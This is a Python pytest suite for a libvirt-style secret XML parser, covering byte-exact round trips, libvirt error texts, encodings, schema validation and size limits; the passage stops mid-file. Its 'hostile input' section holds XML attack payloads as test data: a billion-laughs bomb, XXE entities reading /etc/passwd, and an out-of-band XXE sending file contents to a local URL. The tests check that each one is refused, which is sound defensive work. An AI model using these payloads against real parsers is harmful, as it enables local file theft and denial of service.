"""secretbus.core.secretxml: libvirt-exact parse/format, safe parsing, schema validation."""
from __future__ import annotations

import re
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from secretbus.core import errors
from secretbus.core.model import SecretDef, UsageType
from secretbus.core.secretxml import (
    MAX_XML_BYTES,
    escape_text,
    format_secret_xml,
    parse_secret_xml,
    schema_path,
)

# The project's own fixtures (canonical/: libvirt's exact layout, each formats back to itself;
# reformat/: NAME.in.xml formats to NAME.out.xml; invalid/: rejected, see INVALID). libvirt's own
# secretxml2xml inputs are checked in addition when the shared conformance dir is present.
DATA = Path(__file__).resolve().parent / "data" / "secretxml"
SHARED = Path(__file__).resolve().parents[2] / "shared/conformance/libvirt-secretxml"
STALE = "usage-passphrase.xml"   # libvirt's pre-2.3.0 name of tls: now rejected
UUID = "f52a81b2-424e-490c-823d-6bd4235bc572"
MARK = "SECRETMARK"   # document text that must never show up in an error message

FAST = settings(max_examples=150, deadline=None,
                suppress_health_check=[HealthCheck.too_slow])


def doc(body: str = "", attrs: str = "") -> str:
    return f"<secret{attrs}>{body}</secret>"


def usage(kind: str, child: str | None = None, text: str = "x") -> str:
    inner = f"<{child}>{text}</{child}>" if child else ""
    return f"<usage type='{kind}'>{inner}</usage>"


def raises(exc: type[errors.SecretError], xml: str | bytes, message: str | None = None,
           **kw) -> errors.SecretError:
    with pytest.raises(exc) as info:
        parse_secret_xml(xml, **kw)
    assert type(info.value) is exc
    if message is not None:
        assert info.value.message == message
    return info.value


# ---------------------------------------------------------------------------
# XML fixtures

U = UsageType
# canonical/NAME: (uuid, ephemeral, private, description, usage type, usage id)
FIXTURE_CANONICAL = {
    "usage-volume.xml": ("3c1d6a0e-7b2f-4e51-9a84-1f0c2d3e4b5a", False, False,
                         "LUKS passphrase of a guest disk", U.VOLUME, "/var/lib/libvirt/images/guest0.qcow2"),
    "usage-volume-ephemeral-private.xml": ("8e2b4f61-0c9d-4a7e-b3f2-6d5c4b3a2918", True, True,
                                           "Ephemeral private volume secret", U.VOLUME,
                                           "/srv/vm/scratch disk.img"),
    "usage-ceph.xml": ("5a7c9e1b-3d2f-4b6a-8c0e-9f1a2b3c4d5e", False, True, "Ceph client key", U.CEPH,
                       "client.libvirt secret"),
    "usage-iscsi.xml": ("b04f2e8d-6a1c-4f3b-9e7d-2c5a8b1f0e63", True, False, "iSCSI CHAP password", U.ISCSI,
                        "iqn.2026-01.org.example:storage.lun1"),
    "usage-tls.xml": ("d7e3a9c5-1b8f-4d2e-a6c4-7f9b0e1d2c38", False, False, None, U.TLS, "migration-tls-key"),
    "usage-vtpm.xml": ("1f9e8d7c-6b5a-4c3d-8e2f-0a1b2c3d4e5f", False, True, "vTPM state key of guest 42",
                       U.VTPM, "vtpm-guest-0042"),
    "escaped.xml": ("a3b5c7d9-e1f2-4a6b-8c9d-0e1f2a3b4c5d", False, False,
                    "Tom & Jerry's <key> \"v2\"", U.CEPH, "client.a&b <c>"),
    "none.xml": ("6c4e2a08-9f7d-4b5c-a3e1-8d6f4b2a0c97", True, True, "Secret without a usage", U.NONE, None),
    "uuid-only.xml": ("0e1d2c3b-4a59-4687-9766-554433221100", False, False, None, U.NONE, None),
}
FIXTURE_REFORMAT = ["defaults", "order-quotes-uuid", "omitted"]
# invalid/NAME: (error class, libvirt's message)
FIXTURE_INVALID = {
    STALE: (errors.ConfigUnsupported, "unknown secret usage type passphrase"),
    "ephemeral-maybe.xml": (errors.XMLError, "invalid value of 'ephemeral'"),
    "usage-without-type.xml": (errors.XMLError, "unknown secret usage type"),
    "volume-without-path.xml": (errors.InternalError, "volume usage specified, but volume path is missing"),
    "malformed-uuid.xml": (errors.InternalError, "malformed uuid element"),
    "wrong-root.xml": (errors.XMLRootError, "expecting root element of 'secret', not 'secrets'"),
}


def _shared(*names: str) -> list[Path]:
    """libvirt's inputs of these names, when the shared conformance dir is present."""
    return [SHARED / n for n in names if (SHARED / n).is_file()] if SHARED.is_dir() else []


SHARED_POSITIVE = sorted({p.name for p in SHARED.glob("*.xml")} - {STALE}) if SHARED.is_dir() else []
FIXTURE_ROUND_TRIP = [DATA / "canonical" / n for n in sorted(FIXTURE_CANONICAL)] + _shared(*SHARED_POSITIVE) \
    + [DATA / "reformat" / f"{n}.out.xml" for n in FIXTURE_REFORMAT]
FIXTURE_VALID = [p for p in FIXTURE_ROUND_TRIP if "<usage" in p.read_text()] + [DATA / "canonical" / "uuid-only.xml"]
FIXTURE_STALE = [DATA / "invalid" / STALE, *_shared(STALE)]


def _id(p: Path) -> str:
    return f"{'shared' if p.is_relative_to(SHARED) else p.parent.name}/{p.name}"


def test_fixture_tables_cover_the_files() -> None:
    assert sorted(p.name for p in (DATA / "canonical").iterdir()) == sorted(FIXTURE_CANONICAL)
    assert sorted(p.name for p in (DATA / "invalid").iterdir()) == sorted(FIXTURE_INVALID)
    assert sorted(p.name for p in (DATA / "reformat").iterdir()) == sorted(
        f"{n}.{io}.xml" for n in FIXTURE_REFORMAT for io in ("in", "out"))
    assert {FIXTURE_CANONICAL[n][4] for n in FIXTURE_CANONICAL} == set(UsageType)               # every usage type
    assert {FIXTURE_CANONICAL[n][1:3] for n in FIXTURE_CANONICAL} == {(e, p) for e in (False, True)
                                                      for p in (False, True)}  # every combination


@pytest.mark.parametrize("path", FIXTURE_ROUND_TRIP, ids=_id)
def test_round_trip_byte_exact(path: Path) -> None:
    raw = path.read_bytes()
    assert format_secret_xml(parse_secret_xml(raw)).encode() == raw
    assert format_secret_xml(parse_secret_xml(raw.decode())).encode() == raw


@pytest.mark.parametrize("path", FIXTURE_VALID, ids=_id)
def test_fixtures_validate(path: Path) -> None:
    raw = path.read_bytes()
    assert parse_secret_xml(raw, validate=True) == parse_secret_xml(raw)


@pytest.mark.parametrize("name", sorted(FIXTURE_CANONICAL))
def test_fixture_fields(name: str) -> None:
    uuid, ephemeral, private, description, usage_type, usage_id = FIXTURE_CANONICAL[name]
    assert parse_secret_xml((DATA / "canonical" / name).read_bytes()) == SecretDef(
        uuid=uuid, ephemeral=ephemeral, private=private, description=description,
        usage_type=usage_type, usage_id=usage_id)


@pytest.mark.parametrize("name", FIXTURE_REFORMAT)
def test_reformat_to_canonical(name: str) -> None:
    raw = (DATA / "reformat" / f"{name}.in.xml").read_bytes()
    out = (DATA / "reformat" / f"{name}.out.xml").read_text()
    assert raw.decode() != out
    assert format_secret_xml(parse_secret_xml(raw)) == out


@pytest.mark.parametrize("name", sorted(FIXTURE_INVALID))
def test_invalid_fixture_rejected(name: str) -> None:
    exc, message = FIXTURE_INVALID[name]
    raises(exc, (DATA / "invalid" / name).read_bytes(), message)


@pytest.mark.parametrize("path", FIXTURE_STALE, ids=_id)
def test_stale_passphrase_rejected(path: Path) -> None:
    raises(errors.ConfigUnsupported, path.read_bytes(), "unknown secret usage type passphrase")


def test_canonical_layout() -> None:
    d = SecretDef(uuid=UUID, private=True, description="Ceph secret",
                  usage_type=UsageType.CEPH, usage_id="CephCephCephCeph")
    assert format_secret_xml(d) == (
        "<secret ephemeral='no' private='yes'>\n"
        f"  <uuid>{UUID}</uuid>\n"
        "  <description>Ceph secret</description>\n"
        "  <usage type='ceph'>\n"
        "    <name>CephCephCephCeph</name>\n"
        "  </usage>\n"
        "</secret>\n")
    assert format_secret_xml(SecretDef(uuid=UUID)) == (
        f"<secret ephemeral='no' private='no'>\n  <uuid>{UUID}</uuid>\n</secret>\n")


@pytest.mark.parametrize("kind,child", [("volume", "volume"), ("ceph", "name"),
                                        ("iscsi", "target"), ("tls", "name"),
                                        ("vtpm", "name")])
def test_usage_child_per_type(kind: str, child: str) -> None:
    d = parse_secret_xml(doc(usage(kind, child, "/id")))
    assert d.usage_type == UsageType.from_xml_name(kind) and d.usage_id == "/id"
    assert f"  <usage type='{kind}'>\n    <{child}>/id</{child}>\n  </usage>\n" \
        in format_secret_xml(d)


# ---------------------------------------------------------------------------
# every libvirt error text, each as its own case

ERROR_CASES = [
    ("not-well-formed", errors.XMLDetail, "<secret>",
     "(definition_of_secret):1: Premature end of data in tag secret line 1"),
    ("empty-document", errors.XMLDetail, "", "(definition_of_secret):1: Document is empty"),
    ("wrong-root", errors.XMLRootError, "<secrets/>",
     "expecting root element of 'secret', not 'secrets'"),
    ("namespaced-root", errors.XMLRootError, "<x:secret xmlns:x='urn:x'/>",
     "expecting root element of 'secret', not 'x:secret' with xmlns:x='urn:x'"),
    ("default-namespace-root", errors.XMLRootError, "<secret xmlns='urn:x'/>",
     "expecting root element of 'secret', not 'secret' with xmlns='urn:x'"),
    ("namespaced-other-root", errors.XMLRootError, "<y:secrets xmlns:y='urn:y'/>",
     "expecting root element of 'secret', not 'y:secrets' with xmlns:y='urn:y'"),
    ("ephemeral-maybe", errors.XMLError, doc(attrs=" ephemeral='maybe'"),
     "invalid value of 'ephemeral'"),
    ("ephemeral-case", errors.XMLError, doc(attrs=" ephemeral='Yes'"),
     "invalid value of 'ephemeral'"),
    ("private-1", errors.XMLError, doc(attrs=" private='1'"), "invalid value of 'private'"),
    ("private-space", errors.XMLError, doc(attrs=" private=' no'"),
     "invalid value of 'private'"),
    ("ephemeral-before-private", errors.XMLError,
     doc(attrs=" private='x' ephemeral='x'"), "invalid value of 'ephemeral'"),
    ("malformed-uuid", errors.InternalError, doc("<uuid>not-a-uuid</uuid>"),
     "malformed uuid element"),
    ("uuid-31-digits", errors.InternalError, doc(f"<uuid>{UUID[:-1]}</uuid>"),
     "malformed uuid element"),
    ("uuid-33-digits", errors.InternalError, doc(f"<uuid>{UUID}0</uuid>"),
     "malformed uuid element"),
    ("uuid-split-pair", errors.InternalError,
     doc("<uuid>f-52a81b2424e490c823d6bd4235bc572</uuid>"), "malformed uuid element"),
    ("uuid-whitespace-only", errors.InternalError, doc("<uuid>  </uuid>"),
     "malformed uuid element"),
    ("usage-without-type", errors.XMLError, doc("<usage><name>x</name></usage>"),
     "unknown secret usage type"),
    ("usage-empty-type", errors.XMLError, doc("<usage type=''><name>x</name></usage>"),
     "unknown secret usage type"),
    ("usage-unknown-type", errors.ConfigUnsupported, doc(usage("passphrase", "name")),
     "unknown secret usage type passphrase"),
    ("usage-type-case", errors.ConfigUnsupported, doc(usage("Ceph", "name")),
     "unknown secret usage type Ceph"),
    ("volume-missing", errors.InternalError, doc(usage("volume")),
     "volume usage specified, but volume path is missing"),
    ("volume-empty", errors.InternalError, doc(usage("volume", "volume", "")),
     "volume usage specified, but volume path is missing"),
    ("ceph-missing", errors.InternalError, doc(usage("ceph", "target")),
     "Ceph usage specified, but name is missing"),
    ("iscsi-missing", errors.InternalError, doc(usage("iscsi", "name")),
     "iSCSI usage specified, but target is missing"),
    ("tls-missing", errors.InternalError, doc(usage("tls")),
     "TLS usage specified, but name is missing"),
    ("vtpm-missing", errors.InternalError, doc(usage("vtpm", "name", "")),
     "vTPM usage specified, but name is missing"),
    ("uuid-checked-before-usage", errors.InternalError,
     doc("<uuid>bad</uuid>" + usage("bogus")), "malformed uuid element"),
]


@pytest.mark.parametrize("exc,xml,message", [c[1:] for c in ERROR_CASES],
                         ids=[c[0] for c in ERROR_CASES])
def test_error_texts(exc: type[errors.SecretError], xml: str, message: str) -> None:
    raises(exc, xml, message)


def test_error_codes_match_libvirt() -> None:
    assert (errors.XMLError.code, errors.InternalError.code, errors.ConfigUnsupported.code,
            errors.XMLInvalidSchema.code, errors.XMLDetail.code) == (27, 1, 67, 92, 35)


# libxml2's own messages, framed as libvirt's catchXMLError frames them (VIR_ERR_XML_DETAIL,
# which virerror.c prints without a prefix): `NAME:LINE: MESSAGE`, the first fatal error only.
WELL_FORMEDNESS = {
    "tag-mismatch": ("<secret></sec>",
                     "(definition_of_secret):1: Opening and ending tag mismatch: secret line 1 and sec"),
    "no-start-tag": ("hello", "(definition_of_secret):1: Start tag expected, '<' not found"),
    "premature-end": ("<secret>", "(definition_of_secret):1: Premature end of data in tag secret line 1"),
    "extra-content": ("<secret/><x/>", "(definition_of_secret):1: Extra content at the end of the document"),
    "second-line": ("<secret>\n <description>x</descriptio>\n</secret>\n",
                    "(definition_of_secret):2: Opening and ending tag mismatch: description line 2 and descriptio"),
    "first-fatal-only": ("<secret ephemeral='no>\n</secret>",
                         "(definition_of_secret):2: Unescaped '<' not allowed in attributes values"),
    "duplicate-attribute": ("<secret a='1' a='2'/>", "(definition_of_secret):1: Attribute a redefined"),
}


@pytest.mark.parametrize("xml,message", WELL_FORMEDNESS.values(), ids=WELL_FORMEDNESS.keys())
@pytest.mark.parametrize("as_bytes", [False, True])
def test_well_formedness_texts(xml: str, message: str, as_bytes: bool) -> None:
    err = raises(errors.XMLDetail, xml.encode() if as_bytes else xml, message)
    assert err.display() == message and err.code == 35


def test_parse_error_names_source() -> None:
    raises(errors.XMLDetail, b"<secret", "/etc/libvirt/secrets/x.xml:1: "
           "Couldn't find end of Start Tag secret line 1", source="/etc/libvirt/secrets/x.xml")


class _Entry:
    def __init__(self, level: int, line: int, message: str):
        self.level, self.line, self.message = level, line, message


class _Parser:
    def __init__(self, *entries: _Entry):
        self.error_log = list(entries)


def test_syntax_error_framing() -> None:
    from lxml import etree

    from secretbus.core.secretxml import _syntax_error
    fatal, error = etree.ErrorLevels.FATAL, etree.ErrorLevels.ERROR
    # Non-fatal entries are skipped (libvirt's catchXMLError wants XML_ERR_FATAL).
    err = _syntax_error(_Parser(_Entry(error, 1, "xmlns: URI x is not absolute"),   # type: ignore[arg-type]
                                _Entry(fatal, 3, "first\n"), _Entry(fatal, 4, "second")), "N")
    assert type(err) is errors.XMLDetail and err.message == "N:3: first"
    # libxml2 2.9 puts the undecodable document bytes on a second line: not repeated.
    err = _syntax_error(_Parser(_Entry(fatal, 1, "Input is not proper UTF-8, indicate encoding !\n"  # type: ignore[arg-type]
                                                 "Bytes: 0x53 0x45 0x43 0x52\n")), "N")
    assert err.message == "N:1: Input is not proper UTF-8, indicate encoding !"
    # A name can be as long as the document; libvirt's messages end at 1022 characters.
    err = _syntax_error(_Parser(_Entry(fatal, 1, "x" * 5000)), "N")  # type: ignore[arg-type]
    assert len(err.message) == 1022
    err = _syntax_error(_Parser(), "N")  # type: ignore[arg-type]
    assert type(err) is errors.XMLError and err.message == "failed to parse xml document 'N'"


@pytest.mark.parametrize("xml", [
    f"<secret>{MARK}</secrett>",
    f"<?xml version='{MARK}'?><secret/>",
    f"<secret a='{MARK}' a='{MARK}'/>",
    f"<secret><uuid>{MARK}&#1;</uuid></secret>",
    f"<secret>{MARK}\xff</secret>".encode("latin-1"),
    f"<secret>\n{MARK}\n</secret",
    f"{MARK}\n",
], ids=["mismatch", "version", "dup-attr", "charref", "bad-utf8", "unclosed", "not-xml"])
def test_parse_errors_do_not_echo_content(xml: str | bytes) -> None:
    # Text and attribute values never appear (libvirt would quote the line in its context
    # line: a value file passed by mistake would be printed).
    err = raises(errors.XMLDetail, xml)
    assert MARK not in err.message and MARK.lower() not in err.message.lower()
    assert len(err.message) < 200


def test_parse_errors_name_markup_as_libxml2_does() -> None:
    # Names of markup are part of libxml2's (and so libvirt's) message.
    raises(errors.XMLDetail, f"<secret>&{MARK};</secret>",
           f"(definition_of_secret):1: Entity '{MARK}' not defined")
    err = raises(errors.XMLDetail, f"<?xml version='1.0' encoding='{MARK}'?><secret/>".encode())
    assert err.message.startswith("(definition_of_secret):1: ") and "encoding" in err.message


# ---------------------------------------------------------------------------
# accepted variants (libvirt's lenient non-validating behaviour)


@pytest.mark.parametrize("text", [
    "F52A81B2-424E-490C-823D-6BD4235BC572",
    "f52a81b2424e490c823d6bd4235bc572",
    f"  \n\t{UUID}\n  ",
    "f5 2a 81 b2 42 4e 49 0c 82 3d 6b d4 23 5b c5 72",
    "f5-2a-81-b2-42-4e-49-0c-82-3d-6b-d4-23-5b-c5-72",
    "f52a81b2--424e490c823d6bd4235bc572",
])
def test_lenient_uuid_forms_normalised(text: str) -> None:
    d = parse_secret_xml(doc(f"<uuid>{text}</uuid>"))
    assert d.uuid == UUID
    assert f"<uuid>{UUID}</uuid>" in format_secret_xml(d)


@pytest.mark.parametrize("text, canon", [
    (f"-{UUID}", UUID),                        # '-' before the first pair, as virUUIDParse
    (f" - {UUID} \t", UUID),
    (f"{UUID}-", None),                        # but not after the last: only whitespace there
    (f"{UUID} -", None),
    (f"{UUID}0", None),
    (UUID[:-1], None),
])
def test_uuid_separators_only_up_to_the_last_pair(text: str, canon: str | None) -> None:
    from secretbus.core.uuids import parse_uuid
    assert parse_uuid(text) == canon


@pytest.mark.parametrize("body", ["", "<uuid></uuid>", "<uuid/>"])
def test_missing_uuid_generated(body: str) -> None:
    a, b = parse_secret_xml(doc(body)), parse_secret_xml(doc(body))
    assert re.fullmatch(r"[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}",
                        a.uuid)
    assert a.uuid != b.uuid


def test_defaults_and_empty_attributes() -> None:
    d = parse_secret_xml("<secret/>")
    assert d == SecretDef(uuid=d.uuid)
    d = parse_secret_xml(doc(f"<uuid>{UUID}</uuid>", " ephemeral='' private=''"))
    assert d == SecretDef(uuid=UUID)
    d = parse_secret_xml(doc(f"<uuid>{UUID}</uuid>", ' ephemeral="yes" private="yes"'))
    assert (d.ephemeral, d.private) == (True, True)


def test_description_empty_is_none_whitespace_kept() -> None:
    assert parse_secret_xml(doc("<description/>")).description is None
    assert parse_secret_xml(doc("<description></description>")).description is None
    assert parse_secret_xml(doc("<description> </description>")).description == " "


def test_usage_type_none_accepted() -> None:
    d = parse_secret_xml(doc(f"<uuid>{UUID}</uuid><usage type='none'><name>x</name></usage>"))
    assert (d.usage_type, d.usage_id) == (UsageType.NONE, None)
    assert "usage" not in format_secret_xml(d)


def test_unknown_elements_attributes_and_namespaced_children_ignored() -> None:
    d = parse_secret_xml(
        f"<secret xmlns:x='urn:x' foo='bar' x:ephemeral='maybe' private='yes'>"
        f"<x:uuid>garbage</x:uuid><extra a='1'><uuid>garbage</uuid></extra>"
        f"<uuid>{UUID}</uuid><usage type='tls' bogus='1'><x:name>no</x:name>"
        f"<name>t</name><other/></usage></secret>")
    assert d == SecretDef(uuid=UUID, private=True, usage_type=UsageType.TLS, usage_id="t")


def test_xpath_string_value_semantics() -> None:
    # libvirt reads string(./x): first element in document order, all descendant text.
    d = parse_secret_xml(doc(
        f"<usage type='ceph'><name>first</name><name>second</name></usage>"
        f"<uuid>{UUID}</uuid><uuid>not-a-uuid</uuid>"
        "<description>a<b>b<i>c</i></b>d</description><description>x</description>"))
    assert (d.uuid, d.usage_id, d.description) == (UUID, "first", "abcd")


def test_comments_pis_cdata_and_references_in_text() -> None:
    d = parse_secret_xml(doc(
        "<description>a<!-- c -->b<?pi x?>c<![CDATA[<&>]]>&amp;&#x263A;&lt;</description>"))
    assert d.description == "abc<&>&\u263a<"
    raises(errors.InternalError, doc(usage("ceph", "name", "<!-- only a comment -->")),
           "Ceph usage specified, but name is missing")


def test_tail_text_is_not_element_text() -> None:
    d = parse_secret_xml(doc("<description/>tail<usage type='tls'><name>n</name>tail</usage>"))
    assert (d.description, d.usage_id) == (None, "n")
    raises(errors.InternalError, doc("<usage type='tls'><name/>tail</usage>"),
           "TLS usage specified, but name is missing")


def test_line_ends_normalised_and_cr_reference_kept() -> None:
    d = parse_secret_xml(b"<secret><description>a\r\nb\rc&#13;d&#13;&#10;</description></secret>")
    assert d.description == "a\nb\nc\rd\r\n"
    out = format_secret_xml(d)
    assert "<description>a\nb\nc&#13;d&#13;\n</description>" in out
    assert parse_secret_xml(out) == d


@pytest.mark.parametrize("data", [
    "<?xml version='1.0' encoding='ISO-8859-1'?><secret><description>\u00e9\u20ac</description></secret>",
    "<?xml version='1.0' encoding='UTF-16'?><secret><description>\u00e9\u20ac</description></secret>",
    "\ufeff<secret><description>\u00e9\u20ac</description></secret>",
    "<?xml version='1.0' encoding='UTF-8'?><secret><description>\u00e9\u20ac</description></secret>".encode(),
    "<?xml version='1.0' encoding='UTF-16'?><secret><description>\u00e9\u20ac</description></secret>".encode("utf-16"),
    "<secret><description>\u00e9\u20ac</description></secret>".encode("utf-8-sig"),
], ids=["str-latin1-decl", "str-utf16-decl", "str-bom", "bytes-utf8", "bytes-utf16", "bytes-bom"])
def test_encodings(data: str | bytes) -> None:
    assert parse_secret_xml(data).description == "\u00e9\u20ac"


def test_bytes_latin1_declared() -> None:
    raw = "<?xml version='1.0' encoding='ISO-8859-1'?><secret><description>\u00e9</description></secret>"
    assert parse_secret_xml(raw.encode("latin-1")).description == "\u00e9"


@pytest.mark.parametrize("value", [bytearray(b"<secret/>"), memoryview(b"<secret/>")])
def test_bytes_like_input(value: bytearray | memoryview) -> None:
    assert parse_secret_xml(value).usage_type == UsageType.NONE


@pytest.mark.parametrize("value", [None, 42, ["<secret/>"]])
def test_wrong_input_type(value: object) -> None:
    with pytest.raises(errors.InvalidArg):
        parse_secret_xml(value)  # type: ignore[arg-type]


def test_lone_surrogate_in_str() -> None:
    raises(errors.XMLError, "<secret><description>\ud800</description></secret>",
           "failed to parse xml document '(definition_of_secret)': invalid character")


# ---------------------------------------------------------------------------
# hostile input

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE secret [<!ENTITY lol "lol">
<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]><secret><description>&lol9;</description></secret>"""
XXE = """<?xml version="1.0"?>
<!DOCTYPE secret [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<secret><description>&xxe;</description><usage type='ceph'><name>&xxe;</name></usage></secret>"""
XXE_ATTR = """<!DOCTYPE secret [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<secret ephemeral="&xxe;"/>"""
PARAM_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE secret [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]><secret/>"""
PARAM_ENTITY_OOB = """<!DOCTYPE secret [
<!ENTITY % file SYSTEM "file:///etc/passwd">
<!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM 'http://127.0.0.1:9/?x=%file;'>">
%eval; %exfil;]><secret/>"""
HOSTILE = {
    "billion-laughs": BILLION_LAUGHS,
    "xxe-file": XXE,
    "xxe-attribute": XXE_ATTR,
    "parameter-entity": PARAM_ENTITY,
    "parameter-entity-oob": PARAM_ENTITY_OOB,
    "doctype-bare": "<!DOCTYPE secret><secret/>",
    "doctype-system": "<!DOCTYPE secret SYSTEM 'file:///etc/passwd'><secret/>",
    "doctype-public": "<!DOCTYPE secret PUBLIC '-//x//y' 'http://127.0.0.1:9/x.dtd'><secret/>",
    "doctype-empty-subset": "<!DOCTYPE secret []><secret/>",
    "internal-entity": "<!DOCTYPE secret [<!ENTITY e 'v'>]><secret><description>&e;</description></secret>",
}


@pytest.mark.parametrize("xml", HOSTILE.values(), ids=HOSTILE.keys())
@pytest.mark.parametrize("validate", [False, True])
@pytest.mark.parametrize("as_bytes", [False, True])
def test_hostile_refused(xml: str, validate: bool, as_bytes: bool) -> None:
    # Refused by our DTD check (XMLError) or already by libxml2 (XMLDetail), never parsed.
    with pytest.raises((errors.XMLError, errors.XMLDetail)) as info:
        parse_secret_xml(xml.encode() if as_bytes else xml, validate=validate)
    assert "root:" not in info.value.message and "lol" not in info.value.message


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-32"])
def test_doctype_refused_in_any_encoding(encoding: str) -> None:
    # A byte-level scan would miss these; the refusal looks at the parsed document.
    xml = f"<?xml version='1.0' encoding='{encoding}'?>" + XXE.split("?>", 1)[1]
    raises(errors.XMLError, xml.encode(encoding), "DTD is not allowed in secret XML")


def test_dtd_message() -> None:
    raises(errors.XMLError, XXE, "DTD is not allowed in secret XML")
    raises(errors.XMLError, "<!DOCTYPE secret><secret/>", "DTD is not allowed in secret XML")
    # libxml2 already stops the expansion bomb at parse time (amplification limit).
    with pytest.raises((errors.XMLError, errors.XMLDetail)) as info:
        parse_secret_xml(BILLION_LAUGHS)
    assert info.value.message == "DTD is not allowed in secret XML" or \
        info.value.message.startswith("(definition_of_secret):1: Maximum entity amplification")


def test_str_input_ignores_declared_encoding() -> None:
    # A str is already decoded: its declaration cannot apply (it is parsed as UTF-8).
    xml = f"<?xml version='1.0' encoding='{MARK}'?><secret><description>\u00e9</description></secret>"
    assert parse_secret_xml(xml).description == "\u00e9"


def test_undeclared_entity_refused() -> None:
    raises(errors.XMLDetail, doc("<description>&xxe;</description>"),
           "(definition_of_secret):1: Entity 'xxe' not defined")


def test_xinclude_not_processed() -> None:
    d = parse_secret_xml(
        "<secret xmlns:xi='http://www.w3.org/2001/XInclude'><description>"
        "<xi:include href='file:///etc/passwd' parse='text'/></description></secret>")
    assert d.description is None


def test_deep_nesting_refused() -> None:
    raises(errors.XMLDetail, doc("<a>" * 400 + "</a>" * 400))


TOO_LARGE = f"secret XML document is larger than {MAX_XML_BYTES} bytes"


@pytest.mark.parametrize("as_bytes", [False, True])
def test_two_mib_refused(as_bytes: bool) -> None:
    xml = doc(f"<description>{'x' * (2 * 1024 * 1024)}</description>")
    raises(errors.XMLError, xml.encode() if as_bytes else xml, TOO_LARGE)


def test_size_limit_boundary() -> None:
    head = doc(f"<uuid>{UUID}</uuid>")
    exact = head + " " * (MAX_XML_BYTES - len(head))     # trailing whitespace is legal
    assert len(exact.encode()) == MAX_XML_BYTES
    assert parse_secret_xml(exact).uuid == UUID
    raises(errors.XMLError, exact + " ", TOO_LARGE)
    raises(errors.XMLError, (exact + " ").encode(), TOO_LARGE)
    # Counted in UTF-8 bytes, not characters.
    multibyte = head + "\u00e9" * (MAX_XML_BYTES // 2)
    assert len(multibyte) < MAX_XML_BYTES < len(multibyte.encode())
    raises(errors.XMLError, multibyte, TOO_LARGE)


# ---------------------------------------------------------------------------
# schema validation


def test_schema_is_packaged() -> None:
    path = Path(schema_path())
    assert path.is_file() and path.name == "secret.rng" and path.parent.name == "schemas"
    assert path.parent.parent.name == "core" and path.parent.parent.parent.name == "secretbus"


INVALID = {
    "relative-volume": doc(usage("volume", "volume", "images/x.img")),
    "volume-newline": doc(usage("volume", "volume", "/a&#10;b")),
    "empty-volume": doc(usage("volume", "volume", "")),
    "name-with-slash": doc(usage("ceph", "name", "a/b")),
    "name-with-newline": doc(usage("tls", "name", "a&#10;b")),
    "target-with-slash": doc(usage("iscsi", "target", "a/b")),
    "usage-none": doc("<usage type='none'/>"),
    "usage-unknown": doc(usage("passphrase", "name")),
    "usage-no-type": doc("<usage><name>x</name></usage>"),
    "usage-wrong-child": doc(usage("ceph", "target")),
    "uuid-spaces": doc(f"<uuid> {UUID}</uuid>"),
    "uuid-pairs": doc("<uuid>f5-2a-81-b2-42-4e-49-0c-82-3d-6b-d4-23-5b-c5-72</uuid>"),
    "uuid-short": doc(f"<uuid>{UUID[:-1]}</uuid>"),
    "uuid-bad-char": doc(f"<uuid>{UUID[:-1]}g</uuid>"),
    "duplicate-uuid": doc(f"<uuid>{UUID}</uuid><uuid>{UUID}</uuid>"),
    "duplicate-description": doc("<description>a</description><description>b</description>"),
    "duplicate-usage": doc(usage("tls", "name") + usage("tls", "name")),
    "unknown-element": doc("<extra/>"),
    "unknown-attribute": doc(attrs=" foo='bar'"),
    "ephemeral-maybe": doc(attrs=" ephemeral='maybe'"),
    "private-empty": doc(attrs=" private=''"),
    "nested-description": doc("<description>a<b/></description>"),
}


@pytest.mark.parametrize("xml", INVALID.values(), ids=INVALID.keys())
def test_validate_rejects(xml: str) -> None:
    err = raises(errors.XMLInvalidSchema, xml, validate=True)
    head, _, detail = err.message.partition("\n")
    assert head == f"Unable to validate doc against {schema_path()}"
    assert detail.endswith("\n") and "line " not in detail


def test_validate_texts_are_libvirts() -> None:
    # libvirt collects libxml2's Relax-NG messages, each newline-ended, without positions.
    head = f"Unable to validate doc against {schema_path()}\n"
    raises(errors.XMLInvalidSchema, doc("<extra/>"), head + "Element secret has extra content: extra\n",
           validate=True)
    raises(errors.XMLInvalidSchema, doc(attrs=" foo='bar'"),
           head + "Invalid attribute foo for element secret\n", validate=True)
    err = raises(errors.XMLInvalidSchema, doc(f"<uuid>{UUID}</uuid><uuid>{UUID}</uuid>"),
                 head + "Extra element uuid in interleave\nElement secret failed to validate content\n",
                 validate=True)
    assert err.display() == "XML document failed to validate against schema: " + err.message


VALID = {
    "empty": "<secret/>",
    "any-order": doc(usage("vtpm", "name", "v") + "<description>d</description>"
                     f"<uuid>{UUID.replace('-', '').upper()}</uuid>", " private='no'"),
    "windows-path": doc(usage("volume", "volume", "C:\\images\\x.img")),
    "empty-description": doc("<description/>"),
}


@pytest.mark.parametrize("xml", VALID.values(), ids=VALID.keys())
